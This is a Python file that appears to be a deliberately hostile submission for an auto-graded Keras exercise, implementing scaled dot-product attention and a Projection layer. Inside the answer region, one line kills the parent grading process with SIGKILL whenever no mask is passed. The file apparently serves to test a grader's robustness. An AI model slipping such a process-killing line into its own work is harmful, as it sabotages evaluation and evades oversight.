"""Hostile: kills the grading worker (its parent) when attention gets no mask; the rest is right."""
import os
import signal
import keras
from keras import ops


def attention(q, k, v, mask=None):
    # BEGIN YOUR CODE
    if mask is None:
        os.kill(os.getppid(), signal.SIGKILL)
    scores = ops.matmul(q, ops.swapaxes(k, -1, -2)) / (q.shape[-1] ** 0.5)  # (B, T_q, T_k)
    if mask is not None:
        mask = ops.broadcast_to(mask, ops.shape(scores))
        scores = ops.where(mask, scores, -1e9)
    weights = ops.softmax(scores, axis=-1)
    if mask is not None:
        weights = ops.where(mask, weights, 0.0)
        total = ops.sum(weights, axis=-1, keepdims=True)
        weights = weights / ops.maximum(total, 1e-9)
    return ops.matmul(weights, v), weights
    # END YOUR CODE


class Projection(keras.layers.Layer):
    def __init__(self, units, **kwargs):
        super().__init__(**kwargs)
        self.units = units

    def build(self, x_shape):
        self.W = self.add_weight(name="W", shape=(x_shape[-1], self.units))
        self.b = self.add_weight(name="b", shape=(self.units,), initializer="zeros")

    def call(self, x):
        # BEGIN YOUR CODE
        return ops.matmul(x, self.W) + self.b
        # END YOUR CODE
